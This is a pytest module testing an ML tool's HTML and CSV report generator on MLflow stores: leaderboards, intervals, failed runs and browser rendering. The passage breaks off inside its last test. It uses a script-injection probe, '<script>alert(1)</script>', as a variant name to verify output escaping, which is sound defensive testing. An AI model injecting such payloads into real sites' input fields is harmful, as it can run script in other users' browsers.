"""`workbench report` against real stores: sweeps trained by the real CLI (once per module), a run
left RUNNING by hand, an experiment where every run failed, and a headless browser."""

from __future__ import annotations

import base64
import re
import sqlite3
import subprocess
import sys
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import yaml
from typer.testing import CliRunner

from workbench.cli import app
from workbench.tracking import TAG

SCRIPT = "<script>alert(1)</script>"
MATHTEXT = "multi $\\oops$"  # broken mathtext: matplotlib raises if it tries to parse it

TINY = {
    "data": {"dataset": "tinyshakespeare"},
    "train": {"max_iters": 40, "eval_interval": 20, "eval_iters": 2, "device": "cpu"},
    "model": {"n_embd": 16, "n_head": 2},
}
SPECS: dict[str, dict[str, Any]] = {
    "grid": {  # 3 variants × 2 block sizes × 2 learning rates × 2 seeds = 24 runs
        **TINY,
        "experiment": "grid",
        "variants": {
            "bigram": {"model": {"kind": "bigram"}},
            SCRIPT: {"model": {"kind": "single_head"}},
            MATHTEXT: {"model": {"kind": "multi_head"}},
        },
        "grid": {"train.block_size": [4, 8], "train.learning_rate": [1.0e-3, 1.0e-2]},
        "seeds": [1, 2],
        "reference": {"bigram": 2.49},
    },
    "oneseed": {  # 2 variants × 2 block sizes × 1 seed
        **TINY,
        "experiment": "oneseed",
        "variants": {
            "bigram": {"model": {"kind": "bigram"}},
            "single": {"model": {"kind": "single_head"}},
        },
        "grid": {"train.block_size": [4, 8]},
        "seeds": [1],
    },
    "allfail": {  # one run diverges, one raises (block_size longer than the val split)
        **TINY,
        "experiment": "allfail",
        "variants": {
            "exploding": {"model": {"kind": "bigram"}, "train": {"learning_rate": 100.0}},
            "too_long": {"model": {"kind": "bigram"}, "train": {"block_size": 200_000}},
        },
        "seeds": [1],
    },
}
RUNNING_NAME = "bigram-left-running"


class Store:
    def __init__(self, folder: Path) -> None:
        self.folder = folder
        self.uri = f"sqlite:///{folder / 'mlflow.db'}"
        self.reports = folder / "reports"
        self.output = ""
        self.drawn: dict[str, dict[str, Any]] = {}

    def client(self) -> Any:
        from mlflow.tracking import MlflowClient

        return MlflowClient(self.uri)

    def runs(self, experiment: str) -> list[Any]:
        client = self.client()
        exp = client.get_experiment_by_name(experiment)
        runs = client.search_runs([exp.experiment_id], max_results=1000)
        return [r for r in runs if TAG + "plan" not in r.data.tags]  # a sweep's parent: not a run

    def html(self, experiment: str) -> str:
        return (self.reports / f"{experiment}.html").read_text(encoding="utf-8")


def invoke(*args: str) -> Any:
    return CliRunner().invoke(app, list(args))


def leave_running(store: Store) -> str:
    """A run as a live `workbench run` would leave it mid-training: tags, params, two points."""
    from mlflow.entities import Metric, Param

    client = store.client()
    experiment = client.get_experiment_by_name("grid")
    tags = {
        TAG + "run_key": "0123456789abcdef",
        TAG + "variant": "bigram",
        TAG + "seed": "3",
        TAG + "kind": "bigram",
        TAG + "heartbeat": f"{time.time():.0f}",
        TAG + "grid.train.block_size": "4",
        TAG + "grid.train.learning_rate": "0.001",
    }
    run_id: str = client.create_run(
        experiment.experiment_id, run_name=RUNNING_NAME, tags=tags
    ).info.run_id
    now = int(time.time() * 1000)
    client.log_batch(
        run_id,
        metrics=[Metric("val_loss", 4.6, now, 0), Metric("train_loss", 4.6, now, 0)],
        params=[Param("train.block_size", "4"), Param("model.kind", "bigram"), Param("seed", "3")],
    )
    return run_id


@pytest.fixture(scope="module")
def store(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """Three experiments in one SQLite store, trained by `workbench run`, then one
    `workbench report` with no experiment named (so it reports on all three)."""
    folder = tmp_path_factory.mktemp("report")
    monkeypatch = pytest.MonkeyPatch()
    monkeypatch.chdir(folder)  # MLflow puts artifacts under the working folder, reports go here
    store = Store(folder)
    for name, spec in SPECS.items():
        path = folder / f"{name}.yaml"
        path.write_text(yaml.safe_dump(spec, sort_keys=False))
        result = invoke(
            "run", str(path), "--tracking-uri", store.uri,
            "--checkpoint-dir", str(folder / "checkpoints"), "--no-progress",
        )  # fmt: skip
        assert result.exit_code == (1 if name == "allfail" else 0), result.output
    leave_running(store)
    result = invoke("report", "--tracking-uri", store.uri)
    assert result.exit_code == 0, result.output
    store.output = result.output
    yield store
    monkeypatch.undo()


# The module's stores (three small sweeps trained once, eleven fabricated shapes reported once,
# the hostile one) take seconds to build: their tests are left out of `pytest -m "not slow"`.
slow = pytest.mark.slow


# --- files and paths -----------------------------------------------------------------------------


@slow
def test_reports_every_experiment_and_prints_every_path(store: Store) -> None:
    printed = store.output.split()
    expected = [
        f"reports/{n}.{ext}" for n in ("grid", "oneseed", "allfail") for ext in ("html", "csv")
    ]
    assert sorted(printed) == sorted(expected)
    for path in expected:
        assert (store.folder / path).stat().st_size > 0, path


@slow
def test_out_file_folder_and_errors(store: Store, tmp_path: Path) -> None:
    single = tmp_path / "one" / "page.html"
    result = invoke("report", "--tracking-uri", store.uri, "-e", "oneseed", "--out", str(single))
    assert result.exit_code == 0, result.output
    assert result.output.split() == [str(single), str(single.with_suffix(".csv"))]

    folder = tmp_path / "many"
    result = invoke("report", "--tracking-uri", store.uri, "-e", "oneseed", "-e", "allfail",
                    "--out", str(folder))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in folder.iterdir()) == [
        "allfail.csv", "allfail.html", "oneseed.csv", "oneseed.html",
    ]  # fmt: skip

    result = invoke("report", "--tracking-uri", store.uri, "--out", str(tmp_path / "x.html"))
    assert result.exit_code == 2
    assert re.search(r"\d experiments", result.output) and not (tmp_path / "x.html").exists()

    result = invoke("report", "--tracking-uri", store.uri, "-e", "nope", "--out", str(tmp_path))
    assert result.exit_code == 2
    assert "no experiment named 'nope'" in result.output and "grid" in result.output

    missing = tmp_path / "missing.db"
    result = invoke("report", "--tracking-uri", f"sqlite:///{missing}", "--out", str(tmp_path))
    assert result.exit_code == 2 and "no such tracking store" in result.output
    assert not missing.exists()  # reading never creates a store


@slow
def test_spec_option_reports_on_that_experiment(store: Store, tmp_path: Path) -> None:
    result = invoke("report", "--tracking-uri", store.uri, "--spec",
                    str(store.folder / "oneseed.yaml"), "--out", str(tmp_path))  # fmt: skip
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in tmp_path.iterdir()) == ["oneseed.csv", "oneseed.html"]


# --- the page ------------------------------------------------------------------------------------


@slow
def test_names_from_users_and_models_are_escaped(store: Store) -> None:
    html = store.html("grid")
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert "<script" not in html.lower()
    assert MATHTEXT in html  # drawn as plain text: the figures did not choke on it


@slow
def test_page_is_self_contained(store: Store) -> None:
    for name in ("grid", "oneseed", "allfail"):
        html = store.html(name)
        lowered = html.lower()
        for needle in (
            'src="http',
            "src='http",
            "<link",
            "@import",
            "url(http",
            "url(//",
            "<script",
        ):
            assert needle not in lowered, (name, needle)
        sources = re.findall(r'<img[^>]* src="([^"]*)"', html)
        assert sources, name
        for source in sources:
            assert source.startswith("data:image/png;base64,")
            png = base64.b64decode(source.split(",", 1)[1])
            assert png[:8] == b"\x89PNG\r\n\x1a\n"


@slow
def test_header_counts_and_devices(store: Store) -> None:
    text = _text(store.html("grid"))
    assert "25 — 24 finished 0 failed 0 diverged 1 running" in text
    assert "cpu (24 runs)" in text
    assert "block_size: 4, 8; learning_rate: 0.001, 0.01" in text
    failed = _text(store.html("allfail"))
    assert "2 — 0 finished 1 failed 1 diverged" in failed


@slow
def test_leaderboard_matches_the_store(store: Store) -> None:
    """The leaderboard's mean and 95% interval, recomputed here from the runs in MLflow."""
    from scipy import stats

    runs = [r for r in store.runs("grid") if r.info.status == "FINISHED"]
    by_point: dict[tuple[str, str, str], list[float]] = {}
    for run in runs:
        tags = run.data.tags
        key = (tags[TAG + "variant"], tags[TAG + "grid.train.block_size"],
               tags[TAG + "grid.train.learning_rate"])  # fmt: skip
        by_point.setdefault(key, []).append(run.data.metrics["best_val_loss"])
    best = min((sum(v) / len(v), k, v) for k, v in by_point.items() if k[0] == "bigram")
    mean, (_, block, lr), losses = best
    half = stats.t.ppf(0.975, len(losses) - 1) * stats.tstd(losses) / len(losses) ** 0.5
    rows = _table_rows(store.html("grid"), "Leaderboard")
    bigram = next(r for r in rows if r[1] == "bigram")
    assert bigram[2] == f"block_size={block}, learning_rate={lr}"
    assert bigram[3] == "2"
    assert bigram[4] == f"{mean:.4f}"
    assert bigram[5] == f"± {half:.4f}"
    assert bigram[6] == "2.49"  # the published figure, from the workbench.reference_val_loss tag
    assert [float(r[4]) for r in rows] == sorted(float(r[4]) for r in rows)  # best first
    assert {r[1] for r in rows} == {"bigram", SCRIPT, MATHTEXT}


@slow
def test_adjacent_rungs_are_compared_in_words(store: Store) -> None:
    import html as html_module

    block = store.html("grid").split('<ul class="comparisons">', 1)[1].split("</ul>", 1)[0]
    sentences = [html_module.unescape(s) for s in re.findall(r"<li[^>]*>(.*?)</li>", block)]
    assert [s.split(":")[0] for s in sentences] == [
        f"{SCRIPT} vs bigram",
        f"{MATHTEXT} vs {SCRIPT}",
    ]
    for sentence in sentences:
        assert re.search(
            r": difference [-+]\d\.\d{3} ± \d\.\d{3}, (not )?resolved with 2 seeds", sentence
        )


@slow
def test_one_seed_shows_no_intervals_and_says_why(store: Store) -> None:
    html = store.html("oneseed")
    text = _text(html)
    assert "one finished seed, so there are no confidence intervals" in text
    assert "± 95% CI" not in text and "95% interval" not in text
    assert "heatmaps of best val loss" not in html  # one axis: no heatmap
    assert "best val loss along each grid axis" in html
    assert "95% CI" in _text(store.html("grid"))


@slow
def test_every_run_failed(store: Store) -> None:
    text = _text(store.html("allfail"))
    assert "No run finished, so there is no leaderboard yet." in text
    rows = _table_rows(store.html("allfail"), "Failed and diverged runs")
    by_name = {r[0]: r for r in rows}
    assert by_name["exploding s=1"][1] == "diverged"
    assert "exceeded" in by_name["exploding s=1"][3]
    assert by_name["too_long s=1"][1] == "failed"
    assert "too few for block_size 200000" in by_name["too_long s=1"][3]
    assert by_name["too_long s=1"][2] == "0"


@slow
def test_a_single_run(store: Store, tmp_path: Path) -> None:
    """One finished run, no grid, one seed, no artifacts: a short page, not a crash."""
    from mlflow.entities import Metric, Param

    from workbench.report import write_reports

    client = store.client()
    experiment_id = client.create_experiment("single")
    tags = {TAG + "run_key": "f" * 16, TAG + "variant": "lonely", TAG + "seed": "7"}
    run_id = client.create_run(experiment_id, run_name="lonely-seed=7", tags=tags).info.run_id
    metrics = [Metric(k, v, 1000 * step, step) for step in (0, 20) for k, v in
               (("val_loss", 4.0 - step / 100), ("train_loss", 3.9 - step / 100))]  # fmt: skip
    metrics.append(Metric("best_val_loss", 3.8, 20_000, 20))
    client.log_batch(run_id, metrics=metrics, params=[Param("train.block_size", "8")])
    client.set_terminated(run_id, "FINISHED")

    paths = write_reports(store.uri, ["single"], tmp_path)
    assert [p.name for p in paths] == ["single.html", "single.csv"]
    html = paths[0].read_text(encoding="utf-8")
    rows = _table_rows(html, "Leaderboard")
    assert [r[:5] for r in rows] == [["1", "lonely", "(no grid)", "1", "3.8000"]]
    assert "no confidence intervals" in html
    assert html.count("<img") == 4  # variant, two curve views, gap: no heatmap, no attention
    assert len(paths[1].read_text().splitlines()) == 1 + len(metrics)


@slow
def test_running_run_is_shown_as_running(store: Store) -> None:
    rows = _table_rows(store.html("grid"), "Not finished")
    assert rows == [[RUNNING_NAME, "running", "0"]]


@slow
def test_samples_and_attention_of_the_best_runs(store: Store) -> None:
    html = store.html("grid")
    samples = re.findall(r'<pre class="sample-text">(.*?)</pre>', html, re.S)
    assert len(samples) == 3 and all(len(s.strip()) > 50 for s in samples)
    attention = html.split('id="attention"', 1)[1]
    assert attention.count("<img") == 2  # the single-head and the multi-head rung, not bigram
    assert "attention weights of" in attention


@slow
def test_csv_is_tidy(store: Store) -> None:
    import pandas as pd

    table = pd.read_csv(store.reports / "grid.csv", dtype=str, keep_default_na=False)
    db = store.folder / "mlflow.db"
    with sqlite3.connect(db) as connection:
        points = connection.execute(
            "SELECT m.key FROM metrics m JOIN runs r ON r.run_uuid = m.run_uuid "
            "JOIN experiments e ON e.experiment_id = r.experiment_id WHERE e.name = 'grid' "
            "AND r.run_uuid NOT IN (SELECT run_uuid FROM tags WHERE key = 'workbench.plan')"
        ).fetchall()
    assert len(table) == len(points)  # one row per run × metric × step, none lost or doubled
    assert not table.duplicated(["run_id", "metric", "step"]).any()
    assert table["run_id"].nunique() == 25
    assert set(table["metric"]) == {key for (key,) in points}
    assert {"val_loss", "train_loss", "best_val_loss", "wall_time_s"} <= set(table["metric"])
    run = next(r for r in store.runs("grid") if r.data.tags.get(TAG + "variant") == SCRIPT)
    rows = table[table["run_id"] == run.info.run_id]
    for key, value in run.data.params.items():
        assert set(rows[f"params.{key}"]) == {value}, key
    for key, value in run.data.tags.items():
        if key != TAG + "heartbeat":  # written again while the run is live
            assert set(rows[f"tags.{key}"]) == {value}, key
    history = sorted(
        (m.step, m.value) for m in store.client().get_metric_history(run.info.run_id, "val_loss")
    )
    val = rows[rows["metric"] == "val_loss"]
    assert sorted(zip(val["step"].astype(int), val["value"].astype(float), strict=True)) == history


# --- against a tracking server --------------------------------------------------------------------


@slow
def test_loads_the_same_through_a_tracking_server(
    store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The server's bulk-history endpoint gives what one SQL query gives, also when its answers
    are truncated and have to be asked for again in smaller pieces."""
    from runs import mlflow_server

    from workbench.report import history, load

    with mlflow_server(store.uri, store.folder) as url:
        expected = load.load_experiment(store.uri, "grid")
        for limit in (history.BULK_MAX_POINTS, 7):
            monkeypatch.setattr(history, "BULK_MAX_POINTS", limit)
            served = load.load_experiment(url, "grid")
            assert sorted(served.runs.index) == sorted(expected.runs.index)
            assert served.runs["state"].to_dict() == expected.runs["state"].to_dict()
            keys = ["run_id", "metric", "step"]
            got = served.history.sort_values(keys).reset_index(drop=True)
            assert got.equals(expected.history.sort_values(keys).reset_index(drop=True)), limit


# --- in a real browser ---------------------------------------------------------------------------


@slow
def test_report_in_a_headless_browser(store: Store, tmp_path: Path) -> None:
    from browser import chromium, open_page

    if chromium() is None:
        pytest.skip("chromium is not installed (apt-get install -y chromium)")
    screenshot = tmp_path / "grid.png"
    visit = open_page(store.reports / "grid.html", tmp_path / "profile", screenshot)
    network = [u for u in visit.requests if not u.startswith(("file:", "data:"))]
    assert network == []
    assert visit.images >= 8
    assert visit.images_decoded
    assert visit.title == "grid: workbench report"
    assert SCRIPT in visit.body_text  # shown as text, not run
    assert screenshot.read_bytes()[:8] == b"\x89PNG\r\n\x1a\n"


# --- store shapes, fabricated as the driver writes them ------------------------------------------

BASE_PARAMS = {
    "data.dataset": "tinyshakespeare", "data_sha256": "ab" * 32, "train.batch_size": "32",
    "train.block_size": "8", "train.max_iters": "40", "train.eval_interval": "20",
    "train.learning_rate": "0.001", "model.n_embd": "16", "num_params": "1000",
}  # fmt: skip


def fabricate(
    client: Any,
    experiment_id: str,
    variant: str | None,
    seed: int,
    *,
    kind: str = "bigram",
    grid: dict[str, Any] | None = None,
    params: dict[str, Any] | None = None,
    index: int | None = None,
    floor: float = 2.5,
    status: str = "FINISHED",
    tags: dict[str, str] | None = None,
) -> str:
    """One run with the driver's tags and params and val/train curves at steps 0, 20, 40 (a
    NaN ``floor`` gives NaN losses after step 0); ``grid`` values are params and grid tags."""
    from mlflow.entities import Metric, Param

    grid = grid or {}
    every = {**BASE_PARAMS, "model.kind": kind, **(params or {}), "seed": seed}
    every.update({k: v for k, v in grid.items()})
    run_tags = {TAG + "run_key": f"{abs(hash((variant, seed, str(sorted(every.items()))))):016x}",
                TAG + "seed": str(seed), TAG + "device": "cpu", TAG + "spec": "spec.yaml",
                TAG + "git_commit": "c0ffee" * 6 + "c0ff", TAG + "git_dirty": "false",
                **{TAG + "grid." + k: str(v) for k, v in grid.items()}}  # fmt: skip
    if variant is not None:
        run_tags[TAG + "variant"] = variant
    if index is not None:
        run_tags[TAG + "variant_index"] = str(index)
    run_tags.update(tags or {})
    name = "-".join(
        [variant or "anonymous", *(f"{k}={v}" for k, v in grid.items()), f"seed={seed}"]
    )
    run_id: str = client.create_run(experiment_id, run_name=name, tags=run_tags).info.run_id
    now = int(time.time() * 1000)
    metrics = []
    for step, drop in ((0, 0.0), (20, 0.6), (40, 1.0)):
        val = 4.3 if step == 0 else floor + 0.3 * (1 - drop) + 0.01 * seed
        metrics += [Metric("val_loss", val, now + step, step),
                    Metric("train_loss", val - 0.02, now + step, step)]  # fmt: skip
    if status == "FINISHED":
        finite = [m.value for m in metrics if m.key == "val_loss" and m.value == m.value]
        best = min(finite) if floor == floor else float("nan")
        metrics += [Metric("best_val_loss", best, now + 40, 40),
                    Metric("wall_time_s", 1.5, now + 40, 40)]  # fmt: skip
    else:
        client.set_tag(run_id, TAG + "reason", "out of memory (injected)")
    client.log_batch(run_id, metrics=metrics, params=[Param(k, str(v)) for k, v in every.items()])
    client.set_terminated(run_id, status)
    return run_id


def _seeds_grid(
    client: Any, experiment_id: str, variants: dict[str, str], grid: dict[str, list[Any]],
    seeds: list[int], **kwargs: Any,
) -> None:  # fmt: skip
    import itertools

    keys = list(grid)
    for index, (variant, kind) in enumerate(variants.items()):
        for values in itertools.product(*grid.values()):
            for seed in seeds:
                fabricate(client, experiment_id, variant, seed, kind=kind, index=index,
                          grid=dict(zip(keys, values, strict=True)),
                          floor=2.6 - 0.1 * index, **kwargs)  # fmt: skip


LADDER = {"bigram": "bigram", "single": "single_head", "multi": "multi_head"}
# 20defc6 failed the whole page on these ("left cannot be >= right": a legend wider than its
# figure); the two long ones also share their first 40 characters.
LONG_NAMES = {"x" * 300: "bigram", "x" * 9000: "single_head", "$\\a$ <b>": "multi_head"}


def _shape(name: str, client: Any, experiment_id: str) -> None:
    """Each store shape the report must survive, by name."""
    if name == "one_variant_one_axis":
        _seeds_grid(client, experiment_id, {"only": "bigram"}, {"model.n_embd": [16, 32]}, [1, 2])
    elif name == "one_run":
        fabricate(client, experiment_id, "lonely", 7)
    elif name == "one_seed":
        _seeds_grid(client, experiment_id, LADDER, {"train.block_size": [4, 8]}, [1])
    elif name == "three_axes":
        grid = {"train.block_size": [4, 8], "train.learning_rate": [0.001, 0.01],
                "model.n_embd": [16, 32]}  # fmt: skip
        _seeds_grid(client, experiment_id, LADDER, grid, [1, 2])
    elif name == "no_grid":
        _seeds_grid(client, experiment_id, LADDER, {}, [1, 2, 3])
    elif name == "only_failed":
        _seeds_grid(client, experiment_id, LADDER, {}, [1], status="FAILED")
    elif name == "nan_losses":
        _seeds_grid(client, experiment_id, {"bigram": "bigram"}, {}, [1, 2])
        fabricate(client, experiment_id, "broken", 1, kind="single_head", index=1,
                  floor=float("nan"))  # fmt: skip
        fabricate(client, experiment_id, "broken", 2, kind="single_head", index=1,
                  floor=float("nan"))  # fmt: skip

    elif name == "float_axes":  # the default ablation's axes: an integer and a float
        grid = {"train.block_size": [4, 8], "train.learning_rate": [0.001, 0.003]}
        _seeds_grid(client, experiment_id, LADDER, grid, [1, 2])
    elif name == "float_and_string_axes":
        grid = {"train.learning_rate": [0.001, 0.01], "model.init": ["default", "normal"]}
        _seeds_grid(client, experiment_id, LADDER, grid, [1, 2])
    elif name == "one_float_axis":
        _seeds_grid(client, experiment_id, LADDER, {"train.learning_rate": [3e-4, 0.1]}, [1])
    elif name == "long_names":  # names a spec can hold (a ? key in YAML has no length limit)
        _seeds_grid(client, experiment_id, LONG_NAMES, {"train.block_size": [4, 8]}, [1, 2])


SHAPES = ["one_variant_one_axis", "one_run", "one_seed", "three_axes", "no_grid", "only_failed",
          "nan_losses", "float_axes", "float_and_string_axes", "one_float_axis",
          "long_names"]  # fmt: skip
BROWSED = ("one_variant_one_axis", "three_axes", "only_failed", "long_names")  # in a browser too


@pytest.fixture(scope="module")
def shapes(tmp_path_factory: pytest.TempPathFactory) -> Any:
    """One fabricated SQLite store: one experiment per shape, plus `workbench report` on all,
    with what each figure drew captured as it was rendered (``store.drawn``: shape → figure
    title → panels)."""
    from workbench.report import attention, build, figures, sensitivity

    folder = tmp_path_factory.mktemp("shapes")
    store = Store(folder)
    client = store.client()
    for name in SHAPES:
        _shape(name, client, client.create_experiment(name))
    store.drawn = {}
    real_render, real_write = figures.render, build._write_one

    def recording(figure: Any, title: str, alt: str) -> Any:
        store.drawn[current[-1]][title] = _panels(figure)
        return real_render(figure, title, alt)

    def writing(tracking_uri: str, name: str, *args: Any) -> Any:
        current.append(name)
        store.drawn[name] = {}
        return real_write(tracking_uri, name, *args)

    current: list[str] = []
    with pytest.MonkeyPatch.context() as patch:
        for module in (figures, sensitivity, attention):
            patch.setattr(module, "render", recording)
        patch.setattr(build, "_write_one", writing)
        result = invoke("report", "--tracking-uri", store.uri, "--out", str(store.reports))
    store.output = result.output
    assert result.exit_code == 0, result.output
    assert sorted(store.drawn) == sorted(SHAPES)
    return store


@slow
@pytest.mark.parametrize("shape", SHAPES)
def test_every_store_shape_gives_a_page(shapes: Store, shape: str) -> None:
    html = shapes.html(shape)
    text = _text(html)
    assert "Traceback" not in text and "not reported" not in shapes.output
    for section in ("Leaderboard", "Loss curves", "Sensitivity", "Failed and diverged runs"):
        assert f">{section}<" in html, section
    finished = shape != "only_failed"
    assert ("No run finished, so there is no leaderboard yet." in text) is not finished
    if finished:
        assert _table_rows(html, "Leaderboard")
        assert "depend on the machine and on its load" in text  # wall time, tokens/s
    if shape == "nan_losses":
        assert [r[1] for r in _table_rows(html, "Leaderboard")] == ["bigram"]
    if shape == "long_names":  # listed whole, drawn short
        assert sorted(r[1] for r in _table_rows(html, "Leaderboard")) == sorted(LONG_NAMES)
    if shape in ("one_variant_one_axis", "three_axes"):
        assert "best val loss along each grid axis" in html
    if shape == "three_axes":
        assert "heatmaps of best val loss" in html


@slow
@pytest.mark.parametrize("shape", BROWSED)
def test_store_shapes_in_a_headless_browser(shapes: Store, shape: str, tmp_path: Path) -> None:
    from browser import chromium, open_page

    if chromium() is None:
        pytest.skip("chromium is not installed (apt-get install -y chromium)")
    visit = open_page(shapes.reports / f"{shape}.html", tmp_path / "profile")
    assert [u for u in visit.requests if not u.startswith(("file:", "data:"))] == []
    assert visit.images >= 2 and visit.images_decoded
    assert visit.title == f"{shape}: workbench report"
    # What the browser drew: every section, and every figure in colour (its curves, points or
    # cells: the curves of the ablation with their lines hidden, as 20defc6 drew them, have
    # 0.01 % of their pixels in colour; the sparsest figure drawn here, 0.12 %), at a size
    # that can be read.
    assert {"Leaderboard", "Loss curves", "Sensitivity"} <= set(visit.headings), visit.headings
    for alt, width, height, colour in visit.drawn:
        assert colour > 0.0005, (alt, colour)
        assert width >= 300 and height >= 150, (alt, width, height)
    drawn = [alt for alt, *_ in visit.drawn]
    assert any(alt.startswith("loss against step") for alt in drawn), drawn


# --- every figure draws what it claims ---------------------------------------------------------


@dataclass(frozen=True)
class Panel:
    """What one visible axes of a rendered figure holds."""

    title: str
    lines: int  # lines with at least one finite point
    cells: int  # cells of a heatmap (a QuadMesh), 0 elsewhere
    empty_cells: int  # of those, cells with no value
    labels: tuple[str, ...]  # texts drawn on the axes (heatmap annotations, titles)


def _panels(figure: Any) -> list[Panel]:
    import numpy as np
    from matplotlib.collections import QuadMesh

    panels = []
    for ax in figure.axes:
        if not ax.get_visible():
            continue
        lines = sum(
            1 for line in ax.get_lines()
            if np.isfinite(np.asarray(line.get_ydata(), dtype=float)).any()
        )  # fmt: skip
        cells = empty = 0
        for mesh in (c for c in ax.collections if isinstance(c, QuadMesh)):
            values = np.ma.masked_invalid(np.ma.asarray(mesh.get_array(), dtype=float))
            cells += values.size
            empty += int(np.ma.count_masked(values))
        titles = (ax.get_title(), *(t.get_text() for t in ax.texts))
        panels.append(Panel(ax.get_title(), lines, cells, empty, tuple(titles)))
    return panels


@pytest.fixture(scope="module")
def drawn(shapes: Store) -> dict[str, dict[str, list[Panel]]]:
    """Shape → figure title → its panels, captured as the report rendered each figure."""
    return shapes.drawn  # type: ignore[no-any-return]


def _points(shapes: Store, shape: str, finished_only: bool) -> dict[tuple[str, ...], set[str]]:
    """Grid point (its grid tags' values) → the variants with a run there, from the store."""
    points: dict[tuple[str, ...], set[str]] = {}
    for run in shapes.runs(shape):
        best = run.data.metrics.get("best_val_loss", float("nan"))
        if finished_only and (run.info.status != "FINISHED" or best != best):
            continue  # the curves show the finished runs with a loss, else every run
        tags = run.data.tags
        point = tuple(sorted((k, v) for k, v in tags.items() if k.startswith(TAG + "grid.")))
        points.setdefault(point, set()).add(tags[TAG + "variant"])
    return points


@slow
@pytest.mark.parametrize("shape", SHAPES)
def test_each_loss_curve_panel_holds_a_line_per_variant_and_split(
    shapes: Store, drawn: dict[str, dict[str, list[Panel]]], shape: str
) -> None:
    """Each facet is a grid point of the store, and holds a val and a train line for every
    variant that has a run there (what the blank panels of a float axis lacked)."""
    points = _points(shapes, shape, finished_only=shape != "only_failed")
    for title in ("Loss against step", "Loss against wall-clock time"):
        panels = drawn[shape][title]
        assert len(panels) == len(points), (title, [p.title for p in panels])
        want = sorted(2 * len(variants) for variants in points.values())
        assert sorted(p.lines for p in panels) == want, (title, panels)
        for panel in panels:
            assert "np." not in panel.title, panel.title  # values as the spec writes them


@slow
@pytest.mark.parametrize("shape", ["three_axes", "float_axes", "float_and_string_axes"])
def test_every_heatmap_cell_is_filled(drawn: dict[str, dict[str, list[Panel]]], shape: str) -> None:
    """A heatmap per variant (its title), each of its 2 × 2 cells holding a mean."""
    panels = [p for figure in drawn[shape].values() for p in figure if p.cells and p.title]
    assert sorted(p.title for p in panels) == sorted(LADDER), panels
    for panel in panels:
        assert panel.cells == 4 and panel.empty_cells == 0, panel
        assert not any("nan" in label for label in panel.labels), panel


# --- run identity, ladder order, per-point answers -----------------------------------------------


@slow
def test_runs_of_two_configs_are_never_pooled_as_seeds(tmp_path: Path) -> None:
    """Issue 13's first case, trained by the real CLI: a sweep, then a second `run` of one
    variant with --set. The leaderboard keeps the first config's 2-seed figures exactly, and the
    short runs are a separate point, labelled by the keys that differ, under a warning."""
    store = Store(tmp_path)
    spec = {**TINY, "experiment": "mixed", "seeds": [1, 2],
            "variants": {"bigram": {"model": {"kind": "bigram"}},
                         "single": {"model": {"kind": "single_head"}}}}  # fmt: skip
    path = tmp_path / "mixed.yaml"
    path.write_text(yaml.safe_dump(spec, sort_keys=False))
    common = [
        "--tracking-uri",
        store.uri,
        "--checkpoint-dir",
        str(tmp_path / "ck"),
        "--no-progress",
    ]
    assert invoke("run", str(path), *common).exit_code == 0
    report = ["report", "--tracking-uri", store.uri, "--out", str(store.reports)]
    assert invoke(*report).exit_code == 0
    before = {r[1]: r for r in _table_rows(store.html("mixed"), "Leaderboard")}
    result = invoke("run", str(path), *common, "--set", "train.max_iters=20",
                    "--set", "train.eval_interval=10", "--only", "single*")  # fmt: skip
    assert result.exit_code == 0, result.output
    assert len(store.runs("mixed")) == 6
    assert invoke(*report).exit_code == 0

    html = store.html("mixed")
    after = {r[1]: r for r in _table_rows(html, "Leaderboard")}
    assert (
        after["single"][3:6]
        == before["single"][3:6]
        == ["2", before["single"][4], before["single"][5]]
    )
    assert after["single"][2] == "max_iters=40, eval_interval=20"
    assert "Mixed configs." in _text(html) and "runs of single differ in max_iters" in _text(html)
    points = {(r[0], r[1]): r for r in _table_rows(html, "Every grid point")}
    assert points[("single", "max_iters=20, eval_interval=10")][2] == "2"
    assert points[("single", "max_iters=40, eval_interval=20")][2] == "2"
    assert points[("bigram", "max_iters=40, eval_interval=20")][2] == "2"


@slow
def test_a_grid_point_is_the_config_minus_the_seed(shapes: Store, tmp_path: Path) -> None:
    """Same variant and grid values, another param (or one logged by one run only): two points;
    another seed: one point."""
    from workbench.report.analysis import grid_points
    from workbench.report.load import load_experiment

    client = shapes.client()
    experiment_id = client.create_experiment("identity")
    for seed in (1, 2):
        fabricate(client, experiment_id, "v", seed, grid={"train.block_size": 8})
        fabricate(client, experiment_id, "v", seed, grid={"train.block_size": 8},
                  params={"train.grad_clip": "1.0"})  # fmt: skip
        fabricate(client, experiment_id, "v", seed, grid={"train.block_size": 8},
                  params={"train.batch_size": "16"})  # fmt: skip
    data = load_experiment(shapes.uri, "identity")
    assert data.axes == ["train.batch_size", "train.grad_clip"]
    assert data.declared == ["train.block_size"]
    points = grid_points(data)
    assert sorted(points["point"]) == [
        "batch_size=16, grad_clip=null", "batch_size=32, grad_clip=1.0",
        "batch_size=32, grad_clip=null",
    ]  # fmt: skip
    assert list(points["seeds"]) == [2, 2, 2]


@slow
def test_the_ladder_follows_the_spec_not_the_history(shapes: Store) -> None:
    """Runs made last variant first: comparisons, tables and legends still read in the spec's
    order (the workbench.variant_index tag), later vs earlier."""
    import html as html_module

    client = shapes.client()
    experiment_id = client.create_experiment("order")
    for index, variant in ((2, "step_c"), (0, "step_a"), (1, "step_b")):
        for seed in (1, 2):
            fabricate(client, experiment_id, variant, seed, index=index, floor=2.6 - 0.1 * index)
    paths = _report(shapes, "order")
    html = paths[0].read_text(encoding="utf-8")
    block = html.split('<ul class="comparisons">', 1)[1].split("</ul>", 1)[0]
    sentences = [html_module.unescape(s) for s in re.findall(r"<li[^>]*>(.*?)</li>", block)]
    assert [s.split(":")[0] for s in sentences] == ["step_b vs step_a", "step_c vs step_b"]
    gap = html.split('id="gap"', 1)[1]
    assert [r[0] for r in _table_rows(gap, "runs")] == ["step_a", "step_b", "step_c"]
    assert [r[0] for r in _table_rows(html, "Every grid point")] == ["step_a", "step_b", "step_c"]


@slow
def test_adjacent_rungs_at_every_grid_point(shapes: Store) -> None:
    """The per-point table: later − earlier at each grid point, ± Welch's 95% interval,
    recomputed here from the store."""
    from scipy import stats

    html = shapes.html("three_axes")
    rows = _table_rows(html, "Adjacent rungs at every grid point")
    head = html.split(">Adjacent rungs at every grid point<", 1)[1].split("</thead>", 1)[0]
